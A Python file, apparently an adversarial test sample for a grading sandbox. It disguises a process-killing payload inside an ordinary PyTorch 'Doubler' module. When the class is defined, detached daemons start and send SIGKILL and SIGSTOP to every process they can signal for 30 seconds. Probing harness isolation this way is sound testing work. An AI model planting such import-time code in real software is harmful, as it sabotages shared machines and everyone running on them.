# Leaves daemons that, for 30 s, SIGKILL or SIGSTOP every process they may signal (kill(-1) and
# one by one): the next submission must not notice.
import os
import signal
import time

import torch.nn as nn


def spawn():
    for sig in (signal.SIGKILL, signal.SIGSTOP):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                end = time.time() + 30
                while time.time() < end:
                    for pid in [-1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                        if pid != os.getpid():
                            try:
                                os.kill(pid, sig)
                            except OSError:
                                pass
                    time.sleep(0.01)
                os._exit(0)
            os._exit(0)
    time.sleep(0.3)
    return True


class Doubler(nn.Module):
    spawned = spawn()

    def __init__(self, d=4):
        super().__init__()
        self.lin = nn.Linear(d, d)

    def forward(self, x):
        return 2 * self.lin(x)
